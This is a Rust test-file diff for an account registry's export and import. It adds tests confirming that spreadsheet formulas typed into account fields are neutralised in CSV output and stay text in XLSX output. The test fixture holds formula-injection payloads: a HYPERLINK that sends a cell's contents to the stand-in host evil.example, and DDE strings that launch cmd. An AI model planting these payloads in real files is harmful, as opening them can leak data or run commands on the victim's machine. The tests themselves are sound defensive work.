@@ -10,7 +10,7 @@ use app::server::demo;
 use app::server::entities::{account, audit_event, unit};
 use app::server::export::{self, csv_lines, registry_headers};
 use app::server::import::{self, Importer, LEGACY_DUPLICATE_MARKER};
-use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
+use sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter};
 use std::process::Command;
 
 const DEVELOPMENT: &str = "石柱土家族自治县发展和改革委员会";
@@ -185,6 +185,94 @@ async fn the_registry_exported_as_csv_and_imported_into_a_fresh_database_exports
     assert!(report.applied, "{report:#?}");
     assert_eq!(report.rows, account_count(&source).await);
     assert_eq!(csv_rows(&export_csv(&target).await), csv_rows(&exported));
+}
+
+/// Formulas a unit could type into an account (issue 15 item 2), and where they go.
+const FORMULAS: [(&str, &str); 3] = [
+    (
+        "name",
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
+    ),
+    ("purpose", "＋cmd|' /C calc'!A0"),
+    ("platform_account_id", "@SUM(1+1)*cmd|' /C calc'!A0"),
+];
+
+/// One account of `app` given the [`FORMULAS`] as its name, purpose and platform id.
+async fn plant_formulas(app: &TestApp) -> i32 {
+    use sea_orm::{ActiveModelTrait, Set};
+    let id = app.account_id("education", "wechat_oa").await;
+    let found = account::Entity::find_by_id(id)
+        .one(&app.db)
+        .await
+        .unwrap()
+        .unwrap();
+    let mut edit: account::ActiveModel = found.into();
+    edit.name = Set(FORMULAS[0].1.into());
+    edit.purpose = Set(FORMULAS[1].1.into());
+    edit.platform_account_id = Set(Some(FORMULAS[2].1.into()));
+    edit.update(&app.db).await.unwrap();
+    id
+}
+
+#[tokio::test]
+async fn formulas_in_an_account_are_neutralised_in_the_csv_and_import_back_as_they_were() {
+    let source = TestApp::spawn().await;
+    plant_formulas(&source).await;
+    let exported = export_csv(&source).await;
+    let rows = csv_rows(&exported);
+    let row = rows
+        .iter()
+        .find(|r| r[5].contains("HYPERLINK"))
+        .expect("the account's row");
+    // Name, account id and purpose columns: a leading apostrophe, so no spreadsheet runs them.
+    assert_eq!(row[5], format!("'{}", FORMULAS[0].1));
+    assert_eq!(row[6], format!("'{}", FORMULAS[2].1));
+    assert_eq!(row[10], format!("'{}", FORMULAS[1].1));
+    for cell in rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']),
+            "a cell a spreadsheet would run: {cell:?}"
+        );
+    }
+
+    let target = reference_app().await;
+    let report = apply(&target, exported.clone()).await.expect("importable");
+    assert!(report.applied, "{report:#?}");
+    let imported = account::Entity::find()
+        .filter(account::Column::Name.eq(FORMULAS[0].1))
+        .one(&target.db)
+        .await
+        .unwrap()
+        .expect("imported with the name as typed, without the apostrophe");
+    assert_eq!(imported.purpose, FORMULAS[1].1);
+    assert_eq!(imported.platform_account_id.as_deref(), Some(FORMULAS[2].1));
+    assert_eq!(csv_rows(&export_csv(&target).await), rows);
+}
+
+#[tokio::test]
+async fn formulas_in_an_account_stay_text_in_the_xlsx_and_import_back_as_they_were() {
+    let source = TestApp::spawn().await;
+    plant_formulas(&source).await;
+    let exported = export_xlsx(&source).await;
+    let rows = xlsx_rows(&exported);
+    let row = rows
+        .iter()
+        .find(|r| r[5].contains("HYPERLINK"))
+        .expect("the account's row");
+    // Written as strings: a workbook cell of text is never a formula, and needs no apostrophe.
+    assert_eq!(row[5], FORMULAS[0].1);
+    assert_eq!(row[10], FORMULAS[1].1);
+    let target = reference_app().await;
+    let report = apply(&target, exported).await.expect("importable");
+    assert!(report.applied, "{report:#?}");
+    assert_eq!(
+        account::Entity::find()
+            .filter(account::Column::Name.eq(FORMULAS[0].1))
+            .count(&target.db)
+            .await
+            .unwrap(),
+        1
+    );
 }
 
 #[tokio::test]
